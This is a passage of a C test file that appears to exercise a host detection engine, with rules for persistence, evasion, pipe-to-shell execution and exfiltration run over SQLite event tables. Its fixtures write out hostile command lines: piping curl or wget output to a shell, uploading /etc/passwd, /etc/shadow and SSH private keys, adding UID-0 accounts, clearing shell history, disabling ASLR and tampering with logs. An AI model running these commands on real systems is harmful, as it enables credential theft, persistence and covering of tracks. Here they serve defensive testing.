		{ "evasion_log_tamper", "FileDeleted", "/var/log/wtmp", "rm", "{}" },
		{ "evasion_log_tamper", "FileModified", "/var/log/auth.log", "sh",
		  "{\"OpenFlags\":577}" },
		{ "evasion_aslr", "FileModified", "/proc/sys/kernel/randomize_va_space", "sh",
		  "{}" },
	};

	for (size_t i = 0; i < sizeof(miss) / sizeof(miss[0]); i++)
		filef(miss[i].action, miss[i].path, miss[i].by, miss[i].fields);
	cr_assert_eq(vg_detect_run(det), 0);
	cr_expect_eq(total_alerts(), 0, "%s",
		     sqlite3_mprintf("%lld", qint("SELECT count(*) FROM AlertInfo")));
	for (size_t i = 0; i < sizeof(hit) / sizeof(hit[0]); i++) {
		long long before = alerts(hit[i].rule);

		filef(hit[i].action, hit[i].path, hit[i].by, hit[i].fields);
		cr_assert_geq(vg_detect_run(det), 0);
		cr_expect_eq(alerts(hit[i].rule), before + 1, "%s: %s by %s", hit[i].rule,
			     hit[i].path, hit[i].by);
	}
	cr_expect_eq(total_alerts(), (long long)(sizeof(hit) / sizeof(hit[0])));
}

/* Each command-line rule: what fires, and what looks close and must not. */
Test(detect, command_line_rules)
{
	static const struct {
		const char *rule, *path, *cmd;
	} miss[] = {
		{ "persist_uid0_account", "/usr/sbin/useradd", "useradd -u 1001 bob" },
		{ "persist_uid0_account", "/usr/sbin/usermod", "usermod -u 10 -G wheel bob" },
		{ "evasion_history_cmdline", "/bin/bash", "bash -c 'history | tail'" },
		{ "evasion_aslr_cmdline", "/usr/sbin/sysctl", "sysctl kernel.randomize_va_space" },
		{ "evasion_aslr_cmdline", "/usr/bin/setarch", "setarch x86_64 --uname-2.6 ./a" },
		{ "evasion_masquerade", "/usr/sbin/sshd", "sshd -D" },
		{ "evasion_masquerade", "/home/u/build/sshd-test", "./sshd-test" },
		{ "evasion_masquerade", "/usr/bin/python3", "python3 kworker.py [kworker/0:1]" },
		{ "exec_pipe_to_shell", "/bin/sh",
		  "sh -c 'curl -o x.tgz https://x/y && tar xf x.tgz'" },
		{ "exec_pipe_to_shell", "/bin/bash", "bash -c 'curl -s https://x | jq .'" },
		{ "exec_base64_script", "/bin/sh", "sh -c 'base64 -d key.b64 > key'" },
		{ "exec_base64_script", "/bin/sh", "sh -c 'echo aGk= | base64 -d | shasum'" },
		{ "exfil_cmdline", "/usr/bin/curl", "curl -o out.tar https://x/y" },
		{ "exfil_cmdline", "/usr/bin/curl",
		  "curl --data-binary @enroll.json https://127.0.0.1:4443/v1/enroll" },
		{ "exfil_cmdline", "/usr/bin/curl", "curl -F name=value https://x/form" },
	};
	static const struct {
		const char *rule, *path, *cmd;
	} hit[] = {
		{ "persist_uid0_account", "/usr/sbin/useradd", "useradd -o -u 0 -g 0 toor" },
		{ "persist_uid0_account", "/usr/sbin/usermod", "usermod --uid=0 -o bob" },
		{ "evasion_history_cmdline", "/bin/bash", "bash -c 'history -c'" },
		{ "evasion_history_cmdline", "/bin/sh", "sh -c 'unset HISTFILE; id'" },
		{ "evasion_aslr_cmdline", "/usr/sbin/sysctl",
		  "sysctl -w kernel.randomize_va_space=0" },
		{ "evasion_aslr_cmdline", "/usr/bin/setarch", "setarch x86_64 -R ./vuln" },
		{ "evasion_masquerade", "/tmp/.x/sshd", "sshd -D" },
		{ "evasion_masquerade", "/home/u/miner", "[kworker/0:1]" },
		{ "exec_pipe_to_shell", "/bin/sh", "sh -c 'curl -fsSL https://x/i.sh | sh'" },
		{ "exec_pipe_to_shell", "/bin/bash", "bash -c 'wget -qO- http://x/a | sudo bash'" },
		{ "exec_pipe_to_shell", "/bin/bash", "bash -c \"$(curl -fsSL https://x/i.sh)\"" },
		{ "exec_base64_script", "/bin/sh", "sh -c 'echo aWQK | base64 -d | sh'" },
		{ "exec_base64_script", "/usr/bin/python3",
		  "python3 -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSk=\"))'" },
		{ "exfil_cmdline", "/usr/bin/curl", "curl -T /etc/passwd https://x/up" },
		{ "exfil_cmdline", "/usr/bin/curl", "curl -F f=@/root/.ssh/id_rsa https://x/u" },
		{ "exfil_cmdline", "/usr/bin/wget", "wget --post-file=/etc/shadow http://x/" },
	};

	for (size_t i = 0; i < sizeof(miss) / sizeof(miss[0]); i++)
		proc("d1", "ProcessCreated", miss[i].path, miss[i].cmd, "bash");
	cr_assert_eq(vg_detect_run(det), 0);
	cr_expect_eq(total_alerts(), 0);
	for (size_t i = 0; i < sizeof(hit) / sizeof(hit[0]); i++) {
		long long before = alerts(hit[i].rule);

		proc("d1", "ProcessCreated", hit[i].path, hit[i].cmd, "bash");
		cr_assert_geq(vg_detect_run(det), 0);
		cr_expect_eq(alerts(hit[i].rule), before + 1, "%s: %s", hit[i].rule, hit[i].cmd);
	}
	/* /tmp/.x/sshd also ran from /tmp; curl -F ...id_rsa also names a key */
	cr_expect_eq(total_alerts(), (long long)(sizeof(hit) / sizeof(hit[0])) + 2);
	cr_expect_eq(alerts("exec_from_tmp") + alerts("credential_files_cmdline"), 2);
}

/* A file event stamped at an SQLite time modifier from now ('-61 minutes'). */
static void fileev_ago(const char *dev, const char *action, const char *folder, const char *by,
		       const char *ago)
{
	sql("INSERT INTO DeviceFileEvents (Timestamp, DeviceId, ActionType, ReportId, FileName,"
	    " FolderPath, InitiatingProcessId, InitiatingProcessFileName) VALUES"
	    " (strftime('%%Y-%%m-%%dT%%H:%%M:%%fZ', 'now', %Q), '%s', '%s', %d, '%s', '%s', 77,"
	    " '%s')",
	    ago, dev, action, ++report_id, strrchr(folder, '/') + 1, folder, by);
}

/* Evidence rows of rule naming the file or image folder. */
static long long evidence(const char *rule, const char *folder)
{
	return qint("SELECT count(*) FROM AlertEvidence e JOIN AlertInfo a USING (AlertId)"
		    " WHERE a.RuleId = '%s' AND e.FolderPath = '%s'",
		    rule, folder);
}

/*
 * exec_from_tmp probes a new process's path for what a linker wrote there
 * (by device and path): just inside the hour it is a build, just outside
 * it, on another device or only chmod'ed it is not.
 */
Test(detect, exec_from_tmp_build_is_this_device_this_hour)
{
	fileev_ago("d1", "FileCreated", "/tmp/b/inside", "collect2", "-59 minutes");
	fileev_ago("d1", "FileCreated", "/tmp/b/outside", "collect2", "-61 minutes");
	fileev("d2", "FileCreated", "/tmp/b/elsewhere", "collect2");
	fileev("d1", "FileModeChanged", "/tmp/b/chmodded", "collect2");
	cr_assert_geq(vg_detect_run(det), 0);
	proc("d1", "ProcessCreated", "/tmp/b/inside", "./inside", "make");
	proc("d1", "ProcessCreated", "/tmp/b/outside", "./outside", "make");
	proc("d1", "ProcessCreated", "/tmp/b/elsewhere", "./elsewhere", "make");
	proc("d1", "ProcessCreated", "/tmp/b/chmodded", "./chmodded", "make");
	cr_assert_geq(vg_detect_run(det), 1);
	cr_expect_eq(evidence("exec_from_tmp", "/tmp/b/inside"), 0);
	cr_expect_eq(evidence("exec_from_tmp", "/tmp/b/outside"), 1);
	cr_expect_eq(evidence("exec_from_tmp", "/tmp/b/elsewhere"), 1);
	cr_expect_eq(evidence("exec_from_tmp", "/tmp/b/chmodded"), 1);
}

/*
 * download_exec: the download and the mode change both within the day, on
 * the device that runs the file.
 */
Test(detect, download_exec_both_steps_this_device_this_day)
{
	static const char *const miss[] = { "/home/u/old", "/home/u/oldmode", "/home/u/split" };

	fileev_ago("d1", "FileCreated", "/home/u/inside", "curl", "-23 hours");
	fileev_ago("d1", "FileModeChanged", "/home/u/inside", "chmod", "-23 hours");
	fileev_ago("d1", "FileCreated", "/home/u/old", "wget", "-25 hours");
	fileev("d1", "FileModeChanged", "/home/u/old", "chmod");
	fileev("d1", "FileCreated", "/home/u/oldmode", "curl");
	fileev_ago("d1", "FileModeChanged", "/home/u/oldmode", "chmod", "-25 hours");
	fileev("d1", "FileCreated", "/home/u/split", "curl");
	fileev("d2", "FileModeChanged", "/home/u/split", "chmod");
	cr_assert_geq(vg_detect_run(det), 0);
	proc("d1", "ProcessCreated", "/home/u/inside", "./inside", "bash");
	for (size_t i = 0; i < sizeof(miss) / sizeof(miss[0]); i++)
		proc("d1", "ProcessCreated", miss[i], "./x", "bash");
	cr_assert_geq(vg_detect_run(det), 1);
	cr_expect_eq(evidence("download_exec", "/home/u/inside"), 1);
	for (size_t i = 0; i < sizeof(miss) / sizeof(miss[0]); i++)
		cr_expect_eq(evidence("download_exec", miss[i]), 0, "%s", miss[i]);
}

/*
 * No rule reads DeviceFileEvents by more than the run's new rows (the rowid
 * span) or a path's own events (the FolderPath index): a window of file
 * events read whole made a run with a candidate cost 150-470 ms under a
 * file-event flood. SQLite's plan of each rule as the host prepares it.
 */
Test(detect, no_rule_reads_a_window_of_file_events)
{
	struct vg_rule_def *defs = NULL;
	int ndefs = 0, probes = 0;
	struct vg_sb why;

	vg_sb_init(&why);
	cr_assert_eq(vg_rules_load("rules", &defs, &ndefs, &why), 0, "%s", vg_sb_str(&why));
	vg_sb_free(&why);
	for (int i = 0; i < ndefs; i++) {
		struct vg_kql_query q;
		struct vg_kql_error e;
		sqlite3_stmt *s;
		char *plan;

		cr_assert_eq(vg_kql_translate(db, defs[i].query, VG_KQL_BOUNDED, &q, &e), 0,
			     "%s: %s", defs[i].id, e.msg);
		plan = sqlite3_mprintf("EXPLAIN QUERY PLAN %s", q.sql);
		cr_assert_eq(sqlite3_prepare_v2(db, plan, -1, &s, NULL), SQLITE_OK, "%s: %s",
			     defs[i].id, sqlite3_errmsg(db));
		while (sqlite3_step(s) == SQLITE_ROW) {
			const char *d = (const char *)sqlite3_column_text(s, 3);

			if (!d || !strstr(d, "DeviceFileEvents"))
				continue;
			probes += !!strstr(d, "DeviceFileEvents_Path (FolderPath=?)");
			cr_expect(strstr(d, "(rowid>? AND rowid<?)") ||
					  strstr(d, "DeviceFileEvents_Path (FolderPath=?"),
				  "%s: %s", defs[i].id, d);
		}
		sqlite3_finalize(s);
		sqlite3_free(plan);
		vg_kql_query_free(&q);
	}
	vg_rules_free(defs, ndefs);
	/* exec_from_tmp's build check, download_exec's download and mode change */
	cr_expect_eq(probes, 3);
}

static uint64_t rule_cost(const char *rule)
{
	const char *id;
	uint64_t ns;

	for (int i = 0; vg_detect_rule_cost(det, i, &id, &ns) == 0; i++)
		if (!strcmp(id, rule))
			return ns;
	cr_assert_fail("no rule %s", rule);
	return 0;
}

/*
 * A rule whose query begins `where ActionType == / in (...)` is not run
 * when no new row has one of them (one read of the new rows' ActionTypes
 * instead of one per rule); it runs, and alerts, when one has.
 */
Test(detect, a_rule_for_other_action_types_is_not_run)
{
	fileev("d1", "FileModeChanged", "/tmp/x", "chmod");
	cr_assert_geq(vg_detect_run(det), 0);
	cr_expect_eq(rule_cost("persist_cron"), 0, "persist_cron ran over a FileModeChanged");
	cr_expect_eq(rule_cost("persist_pam"), 0);
	cr_expect_gt(rule_cost("privesc_setid_chmod"), 0, "the FileModeChanged rule did not run");
	/* evasion_history begins with its paths: it reads every new row */
	cr_expect_gt(rule_cost("evasion_history"), 0);
	fileev("d1", "FileModeChanged", "/tmp/y", "chmod");
	fileev("d1", "FileCreated", "/etc/cron.d/backdoor", "vim");
	cr_assert_geq(vg_detect_run(det), 1);
	cr_expect_gt(rule_cost("persist_cron"), 0);
	cr_expect_eq(alerts("persist_cron"), 1);
	cr_expect_eq(rule_cost("persist_systemd_enable"), 0); /* SymlinkCreated only */
}

/*
 * The rules read in a snapshot and write afterwards: a batch stored on
 * another connection while they run (here from inside a rule's query, by
 * SQLite's progress callback) is not kept waiting, and the next run reads it.
 */
static sqlite3 *writer;
static int writer_rc = -1;

static int store_meanwhile(void *unused)
{
	(void)unused;
	/* inside the run's transaction: the rules are reading */
	if (writer_rc == -1 && !sqlite3_get_autocommit(db))
		writer_rc = sqlite3_exec(
			writer,
			"BEGIN IMMEDIATE; INSERT INTO DeviceProcessEvents (Timestamp, DeviceId,"
			" ActionType, ReportId, FileName, FolderPath, ProcessId, ProcessCommandLine,"
			" InitiatingProcessFileName) VALUES (strftime('%Y-%m-%dT%H:%M:%fZ', 'now'),"
			" 'd1', 'ProcessCreated', 900, 'during', '/tmp/during', 900, 'during', 'sh');"
			" COMMIT",
			NULL, NULL, NULL);
	return 0;
}

Test(detect, batches_are_stored_while_the_rules_read)
{
	const char *evidence =
		"SELECT count(*) FROM AlertEvidence e JOIN DeviceProcessEvents p"
		" ON p.rowid = e.SourceRowId AND e.SourceTable = 'DeviceProcessEvents'"
		" WHERE p.FolderPath = '%s'";

	proc("d1", "ProcessCreated", "/tmp/before", "before", "bash");
	cr_assert_eq(sqlite3_open_v2(dbpath, &writer, SQLITE_OPEN_READWRITE, NULL), SQLITE_OK);
	sqlite3_busy_timeout(writer, 0); /* busy at once, not after a wait */
	sqlite3_progress_handler(db, 1, store_meanwhile, NULL);
	cr_assert_geq(vg_detect_run(det), 1);
	sqlite3_progress_handler(db, 0, NULL, NULL);
	cr_expect_eq(writer_rc, SQLITE_OK, "no batch could be stored while the rules ran: %s",
		     sqlite3_errstr(writer_rc));
	cr_assert_geq(vg_detect_run(det), 0);
	cr_expect_eq(qint(evidence, "/tmp/before"), 1);
	cr_expect_eq(qint(evidence, "/tmp/during"), 1, "the row stored meanwhile was not read");
	sqlite3_close(writer);
}

/* A rules directory in the test's folder with one rule, loaded on the store. */
static struct vg_detect *one_rule(const char *name, const char *text)
{
	struct vg_detect *d;
	struct vg_sb why;
	char path[192];
	FILE *f;

	snprintf(path, sizeof(path), "%s/rules", dir);
	cr_assert_eq(mkdir(path, 0700), 0);
	snprintf(path, sizeof(path), "%s/rules/%s.rule", dir, name);
	f = fopen(path, "w");
	cr_assert_not_null(f);
	fputs(text, f);
	fclose(f);
	snprintf(path, sizeof(path), "%s/rules", dir);
	vg_sb_init(&why);
	cr_assert_eq(vg_detect_open(&d, db, path, &why), 0, "%s", vg_sb_str(&why));
	vg_sb_free(&why);
	return d;
}

/*
 * A run reads at most 100,000 new rows of a table (and says it is behind),
 * and makes evidence of at most 50,000 rows: the rest are counted by rule in
 * HostCounters, not lost from view; the next run goes on where it stopped.
 */
Test(detect, a_run_is_bounded_and_what_it_leaves_is_counted)
{
	struct vg_detect *d =
		one_rule("every_exec", "title: Every exec\nseverity: Low\n"
				       "category: Execution\nmitre: T1204\ngroup: DeviceId\n"
				       "query:\nDeviceProcessEvents\n"
				       "| where ActionType == \"ProcessCreated\"\n");

	sql("WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 100005)"
	    " INSERT INTO DeviceProcessEvents (Timestamp, DeviceId, ActionType, ReportId, FileName,"
	    " FolderPath, ProcessId, ProcessCommandLine, InitiatingProcessFileName)"
	    " SELECT " NOW ", 'd1', 'ProcessCreated', i, 'x', '/usr/bin/x', 4242, 'x', 'bash'"
	    " FROM n");
	cr_assert_geq(vg_detect_run(d), 1, "%s", "no alert");
	cr_expect_eq(qint("SELECT count(*) FROM AlertInfo"), 1, "one process: one alert");
	cr_expect_eq(vg_detect_behind(d), 1);
	cr_expect_eq(qint("SELECT LastRowId FROM DetectionState"
			  " WHERE TableName = 'DeviceProcessEvents'"),
		     100000);
	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence"), 50000);
	cr_expect_eq(qint("SELECT Count FROM HostCounters WHERE Name = 'DetectionRowsCapped'"
			  " AND Label = 'every_exec'"),
		     50000);
	cr_assert_eq(vg_detect_run(d), 0);
	cr_expect_eq(vg_detect_behind(d), 0);
	cr_expect_eq(qint("SELECT LastRowId FROM DetectionState"
			  " WHERE TableName = 'DeviceProcessEvents'"),
		     100005);
	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence"), 50005);
	cr_expect_eq(qint("SELECT sum(EvidenceCount) FROM AlertInfo"), 50005);
	vg_detect_close(d);
}
